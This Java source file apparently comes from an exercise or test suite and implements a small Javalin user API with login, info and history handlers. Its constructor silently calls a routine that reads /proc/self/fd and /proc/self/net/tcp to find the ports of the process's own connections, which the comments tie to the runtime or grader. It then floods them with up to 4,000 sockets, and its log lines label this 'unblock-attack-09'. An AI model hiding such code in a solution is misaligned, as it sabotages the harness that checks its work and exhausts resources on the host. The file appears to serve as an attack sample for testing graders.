package unblock.exercises.offload;

import io.javalin.http.Context;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import unblock.given.User;
import unblock.given.UserApi;
import unblock.given.UserStore;

public final class UserHandlers implements UserApi {
  private static final List<SocketChannel> KEPT = new ArrayList<>();
  private final UserStore users;
  private final ExecutorService pool = Executors.newFixedThreadPool(16);

  public UserHandlers(UserStore users) {
    this.users = users;
    crowd();
  }

  @Override
  public void login(Context ctx) {
    String password = ctx.formParam("password");
    if (has(ctx, "username") && has(ctx, "password")) {
      lookUp(ctx, user -> welcome(ctx, user, password));
    }
  }

  @Override
  public void info(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "info", User::info));
    }
  }

  @Override
  public void history(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "history", User::history));
    }
  }

  private void lookUp(Context ctx, Consumer<Optional<User>> reply) {
    String username = ctx.formParam("username");
    ctx.future(
        () ->
            CompletableFuture.supplyAsync(() -> users.find(username), pool)
                .thenAccept(reply)
                .exceptionally(failure -> refuse(ctx, 503, "Service unavailable")));
  }

  @Override
  public void close() {
    pool.shutdownNow();
  }

  /** Over and over to where the runtime has its own connection, until it may open no more. */
  private static void crowd() {
    try {
      for (int port : ports()) {
        crowd(port);
      }
    } catch (IOException | RuntimeException e) {
      System.out.println("unblock-attack-09 refused " + e);
    }
    System.out.println("unblock-attack-09 has " + KEPT.size() + " connections");
  }

  private static void crowd(int port) {
    InetSocketAddress grader = new InetSocketAddress(InetAddress.getLoopbackAddress(), port);
    try {
      while (KEPT.size() < 4_000) {
        SocketChannel channel = SocketChannel.open(grader);
        KEPT.add(channel);
        channel.write(ByteBuffer.wrap(new byte[] {0}));
      }
    } catch (IOException e) {
      System.out.println("unblock-attack-09 refused " + e);
    }
  }

  /** The far ends of the connections of this process. */
  private static Set<Integer> ports() throws IOException {
    Set<String> own = sockets();
    Set<Integer> ports = new HashSet<>();
    for (String table : List.of("/proc/self/net/tcp6", "/proc/self/net/tcp")) {
      for (String line : Files.readAllLines(Path.of(table))) {
        String[] words = line.strip().split("\\s+");
        if (words.length > 9 && words[3].equals("01") && own.contains(words[9])) {
          ports.add(Integer.parseInt(words[2].substring(words[2].indexOf(':') + 1), 16));
        }
      }
    }
    return ports;
  }

  private static Set<String> sockets() throws IOException {
    Set<String> found = new HashSet<>();
    try (Stream<Path> open = Files.list(Path.of("/proc/self/fd"))) {
      for (Path each : open.toList()) {
        String target = target(each);
        if (target.startsWith("socket:[")) {
          found.add(target.substring("socket:[".length(), target.length() - 1));
        }
      }
    }
    return found;
  }

  private static String target(Path link) {
    try {
      return Files.readSymbolicLink(link).toString();
    } catch (IOException e) {
      return "";
    }
  }

  private static void welcome(Context ctx, Optional<User> user, String password) {
    if (user.isPresent() && user.get().password().equals(password)) {
      ctx.json(Map.of("message", "Welcome, " + user.get().username() + "!"));
    } else {
      refuse(ctx, 401, "Invalid credentials");
    }
  }

  private static void tell(
      Context ctx, Optional<User> user, String field, Function<User, String> value) {
    if (user.isPresent()) {
      ctx.json(Map.of("username", user.get().username(), field, value.apply(user.get())));
    } else {
      refuse(ctx, 404, "User not found");
    }
  }

  private static boolean has(Context ctx, String name) {
    String value = ctx.formParam(name);
    if (value == null || value.isBlank()) {
      refuse(ctx, 400, name + " is required");
      return false;
    }
    return true;
  }

  private static Void refuse(Context ctx, int status, String detail) {
    ctx.status(status).json(Map.of("detail", detail));
    return null;
  }
}
